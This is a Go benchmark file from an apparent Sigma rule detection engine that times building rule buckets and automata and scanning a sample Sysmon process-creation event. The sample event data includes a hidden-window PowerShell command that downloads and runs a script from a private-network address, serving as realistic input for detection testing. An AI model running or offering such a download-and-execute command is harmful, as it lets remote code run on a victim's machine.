package sigma

import (
	"path/filepath"
	"testing"

	"github.com/wuguard/wuguard/internal/testcorpus"
)

// sysmonRuleset compiles every SigmaHQ Windows rule.
func sysmonRuleset(b *testing.B) *Ruleset {
	root := testcorpus.Dir(b, "sigma")
	var paths []string
	for _, d := range []string{"rules/windows", "rules-emerging-threats", "rules-threat-hunting"} {
		paths = append(paths, filepath.Join(root, d))
	}
	rules, _ := ParsePaths(paths)
	rs, _ := Compile(rules, Config{})
	return rs
}

// sysmonProcessBucket returns the bucket of Sysmon process creation events,
// the one with the most literals.
func sysmonProcessBucket(b *testing.B) *bucket {
	rs := sysmonRuleset(b)
	return rs.idx.exact[bucketKey{"Microsoft-Windows-Sysmon/Operational", 1}].get(rs)
}

// BenchmarkBuildBucket measures building the bucket of Sysmon process
// creation events with its automata: what the first such event of a hunt
// waits for.
func BenchmarkBuildBucket(b *testing.B) {
	rs := sysmonRuleset(b)
	lists := rs.idx.exact[bucketKey{"Microsoft-Windows-Sysmon/Operational", 1}].lists
	b.ReportAllocs()
	b.ResetTimer()
	for range b.N {
		newBucket(rs, lists...).automata()
	}
}

// BenchmarkBuildAutomaton measures building that bucket's automata, which
// a hunt does once per bucket on the first event that reaches it.
func BenchmarkBuildAutomaton(b *testing.B) {
	lits := sysmonProcessBucket(b).lits
	ids := make([]int32, len(lits))
	for i := range ids {
		ids[i] = int32(i)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for range b.N {
		buildScans(lits, ids)
	}
	b.ReportMetric(float64(len(lits)), "literals")
}

// BenchmarkPrefilterScan measures the automaton of the Sysmon process
// creation bucket over the payload of one typical event; it reports bytes
// per second.
func BenchmarkPrefilterScan(b *testing.B) {
	bk := sysmonProcessBucket(b)
	values := []string{"-", "2019-03-19 23:38:03.353", "{747F3D96-7DDB-5C91-0000-0010B5A19F00}", "4184",
		`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "10.0.17134.1 (WinBuild.160101.0800)", "Windows PowerShell",
		"Microsoft® Windows® Operating System", "Microsoft Corporation", "PowerShell.EXE",
		`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -nop -w hidden -c "IEX ((new-object net.webclient).downloadstring('http://10.0.2.15:8080/a'))"`,
		`C:\Users\IEUser\`, `MSEDGEWIN10\IEUser`, "{747F3D96-6F6C-5C91-0000-00208C180300}", "0x3188c", "1", "Medium",
		"SHA1=1B3B40FBC889FD4C645CC12C85D0805AC36BA254,MD5=95000560239032BC68B4C2FDFCDEF913,SHA256=D3F8FADE829D2B7BD596C4504A6DAE5C034E789B6A3DEFBE013BDA7D14466677,IMPHASH=741776AACCFC5B71FF59832DCDCACE0F",
		"{747F3D96-7DDB-5C91-0000-0010B1A09F00}", "3512", `C:\Windows\System32\cmd.exe`, `cmd.exe /c powershell -nop -w hidden -c ...`}
	n := 0
	for _, v := range values {
		n += len(v)
	}
	d := newDFACache(bk.automata()[0].ac)
	b.SetBytes(int64(n))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for _, v := range values {
			d.scan(v, uint32(i+1), func(int32) {})
		}
	}
}
